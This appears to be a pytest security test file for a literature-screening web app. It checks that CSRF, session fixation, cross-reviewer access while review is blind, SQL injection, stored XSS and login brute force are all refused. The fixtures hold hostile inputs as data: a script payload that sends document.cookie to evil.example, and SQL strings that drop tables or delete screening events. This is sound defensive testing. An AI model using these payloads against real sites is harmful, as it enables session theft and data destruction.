"""What an attacker on the same network could try against the screening pages, each
refused: cross-site requests (CSRF), session fixation, another reviewer's decisions while
a stage is blind (IDOR by record id, guessed URLs, JSON routes, a forged reviewer field),
SQL in every field that reaches the store, script in a record's title and abstract, and
password guessing (the login rate limit). Real HTTP on loopback, SQLite and PostgreSQL."""

from __future__ import annotations

import html
import re
from pathlib import Path

import pytest
import requests
from screening import ready_review
from stores import add_records, store_snapshot
from web import PASSWORD, Client, add_team, served

from review.records import Record
from review.web.app import CSRF_REFUSED

XSS_TITLE = '<script>alert("title")</script>Rituximab <img src=x onerror=alert(1)> calcinosis'
XSS_ABSTRACT = (
    "Scleroderma </div><script>document.location='http://evil.example/'+document.cookie</script>"
)


@pytest.fixture
def team_review(review_dir: Path) -> Path:
    add_records(
        review_dir,
        "embase",
        [Record(source="embase", source_id="x1", title=XSS_TITLE, abstract=XSS_ABSTRACT)],
        file_name="evil.ris",
    )
    ready_review(review_dir, 3)  # clusters 1 (the hostile record), 2, 3, 4
    add_team(review_dir)
    return review_dir


@pytest.fixture
def base(team_review: Path):
    with served(team_review) as url:
        yield url


def token_in(page: str) -> str:
    return page.split('name="csrf" value="')[1].split('"')[0]


def message_in(page: str) -> str:
    """The one-line message of an error page (or the login page's alert), as text."""
    found = re.search(r'<p class="error" role="alert"[^>]*>(.*?)</p>', page, re.DOTALL)
    assert found is not None, page
    return html.unescape(found.group(1))


# --- CSRF -------------------------------------------------------------------------------


def test_a_form_post_without_the_token_is_refused_and_writes_nothing(
    base: str, team_review: Path
) -> None:
    ana = Client(base, "ana")
    before = store_snapshot(team_review)
    for fields in ({}, {"csrf": "guessed"}, {"csrf": ""}):
        reply = ana.http.post(
            base + "/screen/ta/decide",
            data={"cluster": "2", "decision": "include", **fields},
            allow_redirects=False,
            timeout=10,
        )
        assert reply.status_code == 403
        assert message_in(reply.text) == f"Error: {CSRF_REFUSED}"
    assert store_snapshot(team_review) == before


def test_a_json_post_without_the_header_is_refused(base: str) -> None:
    ana = Client(base, "ana")
    reply = ana.http.post(
        base + "/screen/ta/decide.json", json={"cluster": 2, "decision": "include"}
    )
    assert (reply.status_code, reply.json()["error"]) == (403, CSRF_REFUSED)
    reply = ana.http.post(base + "/screen/ta/undo.json", json={}, headers={"X-CSRF-Token": "x"})
    assert reply.status_code == 403


def test_a_post_from_another_origin_is_refused_even_with_the_token(base: str) -> None:
    ana = Client(base, "ana")
    reply = ana.http.post(
        base + "/screen/ta/decide",
        data={"cluster": "2", "decision": "include", "csrf": ana.csrf},
        headers={"Origin": "http://evil.example"},
        allow_redirects=False,
    )
    assert reply.status_code == 403
    assert message_in(reply.text) == (
        "Error: a request from http://evil.example is refused: this form is not from it"
    )


def test_the_login_form_needs_its_own_token(base: str) -> None:
    reply = requests.post(
        base + "/login", data={"name": "ana", "password": PASSWORD}, allow_redirects=False
    )
    assert reply.status_code == 403 and message_in(reply.text) == CSRF_REFUSED
    assert "casepool_session" not in reply.headers.get("set-cookie", "")


# --- sessions -----------------------------------------------------------------------------


def test_login_never_keeps_a_session_id_the_browser_brought(base: str) -> None:
    planted = Client(base, "ben").http.cookies["casepool_session"]  # the attacker's own session
    victim = requests.Session()
    token = token_in(victim.get(base + "/login").text)
    victim.cookies.set("casepool_session", planted)  # set by the attacker (say, over http)
    reply = victim.post(
        base + "/login",
        data={"name": "ana", "password": PASSWORD, "csrf": token},
        allow_redirects=False,
    )
    assert reply.status_code == 303
    fresh = reply.cookies["casepool_session"]
    assert fresh != planted
    attacker = requests.Session()
    attacker.cookies.set("casepool_session", planted)
    assert attacker.get(base + "/screen/ta.json").status_code == 401  # the planted id is dead
    me = requests.Session()
    me.cookies.set("casepool_session", fresh)
    assert me.get(base + "/screen/ta.json").json()["reviewer"] == "ana"


def test_a_made_up_session_id_is_not_a_session(base: str) -> None:
    forged = requests.Session()
    forged.cookies.set("casepool_session", "A" * 43)
    assert forged.get(base + "/screen/ta.json").status_code == 401


def test_the_session_cookie_is_httponly_strict_and_not_secure_on_loopback_http(base: str) -> None:
    reply = requests.post(base + "/login", json={"name": "ana", "password": PASSWORD})
    cookie = reply.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Secure" not in cookie


def test_the_session_cookie_is_secure_when_served_beyond_loopback(team_review: Path) -> None:
    with served(team_review, loopback=False) as url:
        reply = requests.post(url + "/login", json={"name": "ana", "password": PASSWORD})
    cookie = reply.headers["set-cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie


def test_the_store_holds_no_live_session_token(base: str, team_review: Path) -> None:
    token = Client(base, "ana").http.cookies["casepool_session"]
    rows = store_snapshot(team_review)["web_sessions"]
    assert len(rows) == 1 and token not in str(rows)


# --- blind mode ---------------------------------------------------------------------------


@pytest.fixture
def decided(base: str) -> tuple[Client, Client]:
    ana, ben = Client(base, "ana"), Client(base, "ben")
    assert ana.post("/screen/ta/decide.json", {"cluster": 2, "decision": "include"}).ok
    assert ben.post(
        "/screen/ta/decide.json",
        {"cluster": 2, "decision": "exclude", "reason": "not-human", "note": "BEN-SECRET"},
    ).ok
    assert ben.post("/screen/ta/note.json", {"cluster": 3, "text": "BEN-NOTE"}).ok
    return ana, ben


def test_a_blind_reviewer_sees_only_their_own_decision_on_any_record(
    decided: tuple[Client, Client],
) -> None:
    ana, _ = decided
    for path in ("/records/2.json", "/records/2.json?viewer=ben", "/records/2?reviewer=ben"):
        reply = ana.get(path)
        assert reply.status_code == 200
        assert "BEN-SECRET" not in reply.text, (path, reply.text)
        assert "ben" not in reply.text.replace("Bench", ""), path
    page = ana.get("/records/2.json").json()
    assert [v["person"] for v in page["stages"][0]["state"]["votes"]] == ["ana"]
    assert {e["person"] for e in page["history"]} == {"ana"}
    assert "BEN-NOTE" not in ana.get("/records/3.json").text


def test_a_blind_reviewer_cannot_reach_the_decisions_by_other_routes(
    decided: tuple[Client, Client],
) -> None:
    ana, _ = decided
    for path in (
        "/lead/conflicts/ta.json",
        "/lead/agreement/ta.json",
        "/lead/conflicts/ta",
        "/lead.json",
        "/lead/prisma.json",
    ):
        assert ana.get(path).status_code == 403, path
    progress = ana.get("/progress.json").json()["stages"][0]
    assert progress["reviewers"]["ben"] == {"assigned": 0, "done": 1}
    assert progress["statuses"] is None and progress["outcomes"] is None
    queue = ana.get("/screen/ta.json?reviewer=ben").json()
    assert queue["reviewer"] == "ana" and queue["cluster"] == 1


def test_even_a_lead_sees_no_conflict_while_the_stage_is_blind(
    base: str, decided: tuple[Client, Client]
) -> None:
    lee = Client(base, "lee")
    assert lee.get("/lead/conflicts/ta.json").status_code == 403
    assert "BEN-SECRET" not in lee.get("/records/2.json").text


@pytest.mark.parametrize("field", ["reviewer", "person", "by"])
def test_a_decision_in_another_reviewers_name_is_refused(
    base: str, team_review: Path, field: str
) -> None:
    ana = Client(base, "ana")
    before = store_snapshot(team_review)
    reply = ana.post("/screen/ta/decide.json", {"cluster": 2, "decision": "include", field: "ben"})
    assert reply.status_code == 400
    assert reply.json()["error"] == (
        f"unexpected field {field!r}; this form takes change, cluster, decision, note, reason "
        "(you always act as yourself)"
    )
    form = ana.form("/screen/ta/decide", {"cluster": "2", "decision": "include", field: "ben"})
    assert form.status_code == 400
    assert store_snapshot(team_review) == before


def test_a_reviewer_cannot_unblind_or_resolve(base: str, team_review: Path) -> None:
    ana = Client(base, "ana")
    before = store_snapshot(team_review)
    assert ana.post("/lead/blinding/ta.json", {"blind": "0"}).status_code == 403
    assert (
        ana.post("/lead/resolve/ta.json", {"cluster": 2, "decision": "include"}).status_code == 403
    )
    assert store_snapshot(team_review) == before


# --- SQL injection and XSS -----------------------------------------------------------------


def test_sql_in_the_fields_is_data_never_sql(base: str, team_review: Path) -> None:
    before = store_snapshot(team_review)
    for name in (
        "ana' OR '1'='1",
        "ana'; DROP TABLE web_users; --",
        "' UNION SELECT * FROM web_sessions --",
    ):
        reply = requests.post(base + "/login", json={"name": name, "password": "x' OR '1'='1"})
        assert (reply.status_code, reply.json()["error"]) == (401, "wrong name or password")
    ana = Client(base, "ana")
    for cluster in ("2 OR 1=1", "2; DELETE FROM screening_events", "2'--"):
        reply = ana.post("/screen/ta/decide.json", {"cluster": cluster, "decision": "include"})
        assert reply.status_code == 400 and "is not a cluster id" in reply.json()["error"]
    assert ana.get("/screen/ta';--.json").status_code == 400
    after = store_snapshot(team_review)
    assert after["screening_events"] == before["screening_events"]
    assert after["web_users"] == before["web_users"]
    payload = "x'); DELETE FROM screening_events; --"
    assert ana.post("/screen/ta/note.json", {"cluster": 2, "text": payload}).ok
    notes = [e["note"] for e in ana.get("/records/2.json").json()["history"]]
    assert notes == [payload]


def test_script_in_a_title_or_abstract_is_shown_as_text(base: str) -> None:
    ana = Client(base, "ana")
    for path in ("/screen/ta", "/records/1"):
        page = ana.get(path).text
        assert "<script>alert" not in page and "<img src=x" not in page
        assert "&lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;" in page
        assert "&lt;img src=x onerror=alert(1)&gt;" in page
        assert "&lt;/div&gt;&lt;script&gt;document.location" in page
        assert page.count("<script") == 1  # the page's own keys.js, from this server only
    assert '<mark class="include">Rituximab</mark>' in ana.get("/screen/ta").text
    csp = ana.get("/screen/ta").headers["content-security-policy"]
    assert "script-src 'self'" in csp and "default-src 'none'" in csp


# --- password guessing ------------------------------------------------------------------------


def test_five_wrong_passwords_lock_the_name_even_against_the_right_one(base: str) -> None:
    for _ in range(5):
        reply = requests.post(base + "/login", json={"name": "ana", "password": "guess"})
        assert reply.status_code == 401
    locked = requests.post(base + "/login", json={"name": "ana", "password": PASSWORD})
    assert locked.status_code == 429
    assert locked.json()["error"] == (
        "too many failed logins for ana (5 in 15 minutes); wait 15 minutes or ask a lead to "
        "reset the password"
    )
    assert requests.post(base + "/login", json={"name": "ben", "password": PASSWORD}).ok


def test_many_names_tried_from_one_address_are_slowed_too(base: str) -> None:
    for n in range(20):
        requests.post(base + "/login", json={"name": f"guess{n}", "password": "guess"})
    reply = requests.post(base + "/login", json={"name": "ben", "password": PASSWORD})
    assert (reply.status_code, reply.json()["error"]) == (
        429,
        "too many failed logins from this address (20 in 15 minutes); wait 15 minutes",
    )


def test_a_record_assigned_to_another_reviewer_cannot_be_decided(
    base: str, team_review: Path
) -> None:
    from review.api import Review

    with Review.open(team_review) as review:
        review.screening.assign("ta", ["ben"], per_record=1)
    ana = Client(base, "ana")
    assert ana.get("/screen/ta.json").json()["cluster"] is None
    before = store_snapshot(team_review)
    for data in (
        {"cluster": 2, "decision": "include"},
        {"cluster": 2, "decision": "include", "change": 1},
    ):
        reply = ana.post("/screen/ta/decide.json", data)
        assert reply.status_code in (400, 409)
    assert reply.json()["error"] == (
        "cluster 2 is not assigned to ana at title/abstract (assigned to ben)"
    )
    assert store_snapshot(team_review) == before
